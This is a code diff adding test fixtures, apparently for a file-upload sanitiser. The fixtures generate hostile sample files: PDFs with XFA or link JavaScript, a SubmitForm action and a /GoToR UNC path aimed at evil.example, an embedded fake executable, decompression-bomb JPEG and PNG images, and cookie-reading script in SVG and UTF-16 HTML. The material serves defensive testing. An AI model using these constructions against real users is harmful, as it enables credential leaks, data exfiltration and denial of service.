@@ -116,6 +116,56 @@ def pdf_with_link_and_page_open_action() -> bytes:
     )
 
 
+def _stream(data: bytes) -> bytes:
+    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+
+
+def pdf_with_xfa_script() -> bytes:
+    """An XFA form: its JavaScript sits in an XML stream, where no dictionary key shows it."""
+    xdp = (
+        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
+        b'<subform><event activity="initialize"><script contentType="application/x-javascript">'
+        b"app.alert(1);</script></event></subform></template></xdp:xdp>"
+    )
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
+        PAGES,
+        PAGE,
+        _stream(xdp),
+    )
+
+
+def pdf_with_attachment_annotation() -> bytes:
+    """A file attached to a page, its stream without the optional /Type /EmbeddedFile."""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] "
+        b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 5 0 R >> >> >>",
+        _stream(b"MZ\x90\x00not really"),
+    )
+
+
+def pdf_submitting_a_form() -> bytes:
+    return pdf_opening_with(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")
+
+
+def pdf_opening_a_remote_file() -> bytes:
+    """/GoToR to a network path: opening it hands the reader's Windows credentials over."""
+    return pdf_opening_with(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >>")
+
+
+def pdf_with_link_running_javascript() -> bytes:
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] "
+        b'/A << /S /JavaScript /JS (app.launchURL\\("https://evil.example/"\\);) >> >>',
+    )
+
+
 def encrypted_pdf(*, user_password: str = "secret") -> bytes:  # noqa: S107 - a sample file
     writer = PdfWriter()
     writer.add_blank_page(width=595, height=842)
@@ -174,6 +224,30 @@ def black_and_white_png(width: int, height: int) -> bytes:
     )
 
 
+def truncated_image(image_format: str) -> bytes:
+    """A photo cut in the middle of its data, as an interrupted transfer leaves it."""
+    buffer = io.BytesIO()
+    Image.effect_noise((400, 300), 64).convert("RGB").save(buffer, image_format)
+    whole = buffer.getvalue()
+    return whole[: len(whole) * 2 // 3]
+
+
+def jpeg_declaring(width: int, height: int) -> bytes:
+    """A small JPEG whose header announces other dimensions: decoding it would take gigabytes."""
+    data = bytearray(image_bytes("JPEG"))
+    frame = data.index(b"\xff\xc0")  # SOF0: length (2), precision (1), height (2), width (2)
+    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
+    return bytes(data)
+
+
+@cache
+def png_with_text_bomb() -> bytes:
+    """A PNG with a compressed text chunk that inflates to 200 MB."""
+    png = image_bytes("PNG")
+    text = b"Comment\x00\x00" + zlib.compress(bytes(200 * MB), 9)
+    return png[:33] + _png_chunk(b"zTXt", text) + png[33:]  # after the 33 bytes of IHDR
+
+
 def png_with_bad_checksum() -> bytes:
     data = bytearray(image_bytes("PNG"))
     data[-20] ^= 0xFF  # inside the image data, whose CRC no longer matches
@@ -205,6 +279,16 @@ def svg_with_script() -> bytes:
         b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
         b"<script>alert(document.cookie)</script></svg>"
     )
+
+
+def html_in_utf16() -> bytes:
+    return "<html><body><script>alert(document.cookie)</script></body></html>".encode("utf-16")
+
+
+def padded_pdf(size: int) -> bytes:
+    """A valid PDF of exactly ``size`` bytes (a comment line after %%EOF fills it)."""
+    content = pdf_bytes() + b"%"
+    return content + b" " * (size - len(content) - 1) + b"\n"
 
 
 def zip_archive() -> bytes:
